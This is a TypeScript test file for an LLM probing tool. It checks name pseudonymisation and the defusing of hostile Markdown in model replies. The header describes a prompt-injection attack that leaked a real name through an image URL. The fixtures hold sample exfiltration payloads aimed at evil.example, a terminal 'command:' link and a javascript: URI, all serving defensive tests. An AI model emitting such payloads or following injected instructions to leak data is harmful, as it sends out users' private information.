// Issue 20, attack 5: names leaked around pseudonymisation. `{{file}}` was never analysed and `_`
// defeated the whole-word search, so `people/ada_lovelace-notes (Alan Turing).md` sent "Alan
// Turing", "ada" and "lovelace"; a prompt-injected reply's `<img src="https://…?n=[PERSON_1]">` was
// saved with the real name restored inside the URL, beside a `command:` link, in Markdown that the
// preview renders.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { transcriptToMarkdown, untrusted } from '../../../../shared/probes/transcriptMarkdown';
import type { Transcript } from '../../../../shared/probes/transcript';
import { prepareProbe, type Analyze } from '../../../../server/src/probes/probePreparation';
import { Pseudonymizer, type EntitySpan } from '../../../../server/src/probes/pseudonymizer';
import { BUILTIN_SCENARIOS } from '../../../../server/src/probes/scenarios';

const PEOPLE = ['Ada Lovelace', 'Alan Turing', 'Charles Babbage'];

/** A tagger that knows three people, wherever they are written (case as given). */
const analyze: Analyze = async (texts) =>
  texts.map((text) => {
    const spans: EntitySpan[] = [];
    for (const name of PEOPLE)
      for (let i = text.indexOf(name); i >= 0; i = text.indexOf(name, i + 1))
        spans.push({ start: i, end: i + name.length, text: name, label: 'PERSON' });
    return spans;
  });

describe('pseudonymisation covers everything sent', () => {
  it('{{file}} is analysed and masked; `_ - . /` end words', async () => {
    const who = BUILTIN_SCENARIOS.find((s) => s.id === 'who');
    assert.ok(who);
    const prepared = await prepareProbe({
      scenario: who,
      selection: 'Ada Lovelace wrote to Charles Babbage.',
      file: 'people/ada_lovelace-notes (Alan Turing).md',
      analyze,
      pseudonymize: ['PERSON'],
    });
    const sent = [prepared.preamble.sent, ...prepared.turns.map((t) => t.sent)].join('\n');
    for (const leak of [/alan/i, /turing/i, /ada/i, /lovelace/i, /babbage/i]) assert.doesNotMatch(sent, leak);
    assert.match(sent, /people\/\[PERSON_1\]_\[PERSON_1\]-notes \(\[PERSON_3\]\)\.md/);
  });

  it('whole-word search: letters and digits continue a word, punctuation ends it', () => {
    const p = new Pseudonymizer(new Set(['PERSON']));
    p.placeholderFor('Ada Lovelace', 'PERSON');
    assert.equal(
      p.mask('ada_lovelace ada-lovelace x.lovelace/ada Adalovelace ada2', []),
      '[PERSON_1]_[PERSON_1] [PERSON_1]-[PERSON_1] x.[PERSON_1]/[PERSON_1] Adalovelace ada2',
    );
  });
});

describe('names are never restored where they would leave the page', () => {
  const p = new Pseudonymizer(new Set(['PERSON']));
  p.placeholderFor('Ada Lovelace', 'PERSON');

  it('keeps placeholders inside URLs, HTML tags and link targets, restores them in prose and link text', () => {
    const reply = [
      '[PERSON_1] was a mathematician. <img src="https://evil.example/x.png?n=[PERSON_1]">',
      'See [[PERSON_1]](https://evil.example/?who=[PERSON_1]) and https://evil.example/[PERSON_1].',
      '[ref]: https://evil.example/[PERSON_1]',
      '[PERSON_1]: a note about her.',
    ].join('\n');
    const restored = p.restore(reply);
    assert.equal(
      restored,
      [
        'Ada Lovelace was a mathematician. <img src="https://evil.example/x.png?n=[PERSON_1]">',
        'See [Ada Lovelace](https://evil.example/?who=[PERSON_1]) and https://evil.example/[PERSON_1].',
        '[ref]: https://evil.example/[PERSON_1]',
        'Ada Lovelace: a note about her.',
      ].join('\n'),
    );
  });
});

describe('transcript Markdown neutralises a reply', () => {
  it('raw HTML becomes text, acting links are defused, code is left as written', () => {
    const reply = [
      '<img src="https://evil.example/x.png"> [run me](command:workbench.action.terminal.sendSequence?%7B%7D)',
      '<command:evil> and `<b>code</b>` stay, javascript:alert(1) too',
      '```html',
      '<b>fenced</b> command:x',
      '```',
      'the data: shown',
    ].join('\n');
    assert.equal(
      untrusted(reply),
      [
        '&lt;img src="https://evil.example/x.png"> [run me](command\uA789workbench.action.terminal.sendSequence?%7B%7D)',
        '&lt;command\uA789evil> and `<b>code</b>` stay, javascript\uA789alert(1) too',
        '```html',
        '<b>fenced</b> command:x',
        '```',
        'the data: shown',
      ].join('\n'),
    );
  });

  it('in a whole transcript: the response, the prompt and the raw reply', () => {
    const t = {
      schemaVersion: 3,
      run: { id: 'r', startedAt: 'now', durationMs: 1, samsaraVersion: '0', outcome: 'completed' },
      scenario: { id: 's', title: 'T', preamble: 'p', prompt: '{{selection}}', followUps: [] },
      provider: 'openai',
      modelRequested: 'openai:gpt-4o',
      selection: 'x',
      turns: [
        {
          index: 0,
          role: 'prompt',
          prompt: 'Read <img src=https://a.example/p.png>',
          response: 'Hi <img src="https://evil.example/?n=Ada"> [x](command:evil)',
          rawResponse: '<img src="https://evil.example/?n=[PERSON_1]">',
          tokens: { input: 1, output: 1, estimated: false },
          durationMs: 1,
          retries: 0,
        },
      ],
      totals: { inputTokens: 1, outputTokens: 1, estimated: false, retries: 0 },
      errors: [],
    } as unknown as Transcript;
    const markdown = transcriptToMarkdown(t);
    assert.doesNotMatch(markdown, /<img/);
    assert.doesNotMatch(markdown, /\(command:/);
  });
});
